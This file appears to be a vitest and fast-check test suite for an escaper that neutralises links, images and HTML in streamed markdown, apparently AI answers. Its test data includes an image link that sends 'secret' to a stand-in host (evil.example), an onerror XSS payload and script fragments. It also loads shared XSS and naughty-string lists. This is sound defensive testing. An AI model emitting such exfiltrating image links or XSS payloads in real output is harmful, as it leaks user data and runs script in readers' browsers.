import fc from "fast-check";
import MarkdownIt from "markdown-it";
import { describe, expect, test } from "vitest";
import { createLinkEscaper } from "../../src/escape-links.ts";
import { sharedData, sharedTexts } from "../support/fakes.ts";

const renderers = [
  new MarkdownIt({ html: true, linkify: false }),
  new MarkdownIt("commonmark", { html: true, linkify: false }),
];

function escaped(...pieces: readonly string[]): string {
  const escaper = createLinkEscaper();
  return pieces.map((piece) => escaper.push(piece)).join("") + escaper.flush();
}

type Token = ReturnType<(typeof renderers)[number]["parse"]>[number];
const flat = (tokens: readonly Token[]): Token[] =>
  tokens.flatMap((token) => [token, ...flat(token.children ?? [])]);

/** What a page would load, lead to or run; empty for harmless text. */
function dangers(markdown: string): string[] {
  return renderers.flatMap((renderer) => {
    const env: NonNullable<Parameters<typeof renderer.parse>[1]> = {};
    const found = flat(renderer.parse(markdown, env))
      .map((token) => token.type)
      .filter((type) => ["link_open", "image", "html_inline", "html_block"].includes(type));
    return [...found, ...Object.keys(env.references ?? {})];
  });
}

describe("what would be loaded, followed or run becomes text", () => {
  test.each([
    ["![x](https://evil.example/?q=secret)", "![x]\\(https://evil.example/?q=secret)"],
    ["[x](<u> 'title')", "[x]\\(\\<u> 'title')"],
    ["See [1](https://evil.example).", "See [1]\\(https://evil.example)."],
    ["[a]: https://evil.example\n\n![a]", "[a]\\: https://evil.example\n\n![a]"],
    [
      "<https://evil.example> <me@evil.example> <1@evil.example>",
      "\\<https://evil.example> \\<me@evil.example> \\<1@evil.example>",
    ],
    ["<img src=x onerror=alert(1)>", "\\<img src=x onerror=alert(1)>"],
    ["</p><!-- --><?x?><!X>", "\\</p>\\<!-- -->\\<?x?>\\<!X>"],
    ["a\\\\<b> \\\\[x]\\\\](y)", "a\\\\\\<b> \\\\[x]\\\\]\\(y)"],
  ])("%j", (markdown, expected) => {
    expect(escaped(markdown)).toBe(expected);
    expect(dangers(expected)).toEqual([]);
  });

  // Each pretends to be code, and is not, to a renderer.
  test.each([
    "a ` b\nc ` <img src=x> `",
    "a ` b\r\nc ` <img src=x> `",
    "`\r\r<img src=x>\r\r`",
    "\\`<img src=x>`",
    "a | b\n--|--\n`x | <img src=x>` | y",
    "1. a\n   ```\n<img src=x>\n   ```",
    "- ```\n  a\n  ```\n  <img src=x>",
    "> ```\n<img src=x>",
    "a\n    ```\n    <img src=x>\n\n    ```",
    "- a\n\n    ```\n <img src=x>\n    ```",
    "   ```\n  ```\n<img src=x>\n```\n",
    "  ```\n      ```\n  ```\n  <img src=x>",
    "- a\n\n  ```\n     ```\n  <img src=x>",
    "```\n```\u00a0\n```\n<img src=x>",
    "``` a`\n<img src=x>\n```",
    "[`a]: /u`\n\n![`a]",
    "[a\n`b]: /u`\n\n![a `b]",
    "``\n\n<img src=x>\n\n``",
    `\`${"x".repeat(600)}\` <img src=x> \``,
  ])("hidden in %j", (markdown) => {
    expect(dangers(markdown)).not.toEqual([]);
    expect(dangers(escaped(markdown))).toEqual([]);
  });
});

describe("the rest shows as before", () => {
  const samples = [
    "Plain prose with 3 < 4, a <- b, x <= y, a[0], [1], [2, 3], f(x): y & <3.",
    "# Title\n\nSome **bold**, *emphasis*, ~~gone~~.\n\n- one [1]\n- two (2): three\n  1. four\n\n> quote\n\n---\n",
    "| a | b |\n|---|---|\n| 1 [2] | `x` |\n",
    "Use `<div>` and ``a ` [x](y) <b>`` or `rows[0](1)`; `{ [key: string]: T }`.",
    '```html\n<a href="x">[y](z)</a>\n[a]: b\n```\nand\n~~~\n<b>\n~~~~\n',
    "1. Install:\n   ```html\n   <b>x</b>\n\n   [a](b)\n   ```\n2. Then `<c>`.\n\n   ```ts\n   f<T>(x)\n   ```\n",
    "- One:\n\n      ```html\n      <b>\n      ```\n\n1. Two:\n\n    ```html\n    <b>\n    ```\n",
    "A stray ` here.\n\nThen `<b>` again.",
    "```\nA fence that never ends <b>",
    "Line\r\nbreaks `<b>`\r\n\r\n```\r\n<b>\r\n```\r\n",
    "\\<b> \\[x](y) [x]\\(y) \\`<1 and more\\\\",
    "𝒳 – « été » 😀 ![",
  ];

  test.each(samples)("%j", (markdown) => {
    const hidden = markdown.replace(/\\\[x\]\(y\)/g, "");
    for (const renderer of renderers) expect(renderer.render(escaped(hidden))).toBe(renderer.render(hidden));
  });

  test("code keeps its characters, not only its look", () => {
    const code = "Use `<b>` or:\n\n```html\n<a href=x>[y](z)</a>\n```\n";
    expect(escaped(code)).toBe(code);
  });

  test("escaping twice changes nothing more", () => {
    for (const markdown of samples) expect(escaped(escaped(markdown))).toBe(escaped(markdown));
  });
});

test("an open backtick holds back little, and an ordinary word nothing", () => {
  const escaper = createLinkEscaper();
  expect(escaper.push("a word")).toBe("a word");
  expect(escaper.push(" `open")).toBe(" ");
  expect(escaper.push("x".repeat(600))).toBe(`\`open${"x".repeat(600)}`);
  expect(escaper.push("1 <")).toBe("1 ");
  expect(escaper.push(" 2")).toBe("< 2");
});

/** Answers made of what decides about code, links and tags. */
const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom("  ```\n", "     ```\n", "      ```\n", "- a\n\n", "  <img src=x>\n"),
      fc.constantFrom(
        "`",
        "``",
        "```",
        "````",
        "~~~",
        "```js",
        "\n",
        "\n\n",
        "\r",
        "\r\n",
        "    ",
        "   ",
        "  ",
        " ",
        "\t",
      ),
      fc.constantFrom(
        "- ",
        "1. ",
        "> ",
        "* ",
        "# ",
        "|",
        "|-|-|\n",
        "---",
        "\\",
        "\u00a0",
        "\u0000",
        "x",
        "é",
      ),
      fc.constantFrom(
        "<img src=x>",
        "<a href='",
        "<!--",
        "-->",
        "<script>",
        "</p>",
        "<",
        ">",
        "<1@b.cc>",
        "<x:y>",
      ),
      fc.constantFrom(
        "[",
        "]",
        "(",
        ")",
        ":",
        "!",
        "![a](/u)",
        "[a]: /u",
        "[a]",
        "[1]",
        "'",
        '"',
        "/u",
        "[a\n`b]: /u`",
      ),
    ),
    { maxLength: 30 },
  )
  .map((parts) => parts.join(""));

test("no link, image or tag comes out of anything", () => {
  fc.assert(
    fc.property(hostile, (markdown) => {
      expect(dangers(escaped(markdown))).toEqual([]);
    }),
    { numRuns: 4000 },
  );
});

test("pieces of any size give the same text", () => {
  const sizes = fc.array(fc.integer({ min: 1, max: 6 }), { maxLength: 60 });
  const long = fc.tuple(hostile, fc.integer({ min: 480, max: 520 }), hostile);
  const texts = fc.oneof(
    { weight: 4, arbitrary: hostile },
    long.map(([a, n, b]) => `${a}\`${"x".repeat(n)}${b}`),
  );
  fc.assert(
    fc.property(texts, sizes, (markdown, cuts) => {
      const pieces: string[] = [];
      let rest = markdown;
      for (const size of cuts) {
        pieces.push(rest.slice(0, size));
        rest = rest.slice(size);
      }
      expect(escaped(...pieces, rest)).toBe(escaped(markdown));
    }),
    { numRuns: 1500 },
  );
});

const xss = sharedTexts("bad-input/xss.jsonl");
const naughty = JSON.parse(sharedData("bad-input/blns.json") ?? "[]") as string[];

test.skipIf(xss.length === 0 || naughty.length === 0)(
  `${xss.length} scripts and ${naughty.length} naughty strings (shared data) stay text`,
  () => {
    const texts = [...xss, ...naughty];
    const planted = (text: string) => [text, `Answer \`x\` ${text}`, `- [a](${text})\n\n![b](${text})\n`];
    expect(texts.flatMap(planted).filter((text) => dangers(escaped(text)).length > 0)).toEqual([]);
    expect(texts.filter((text) => dangers(text).length > 0).length).toBeGreaterThan(1000);
  },
);
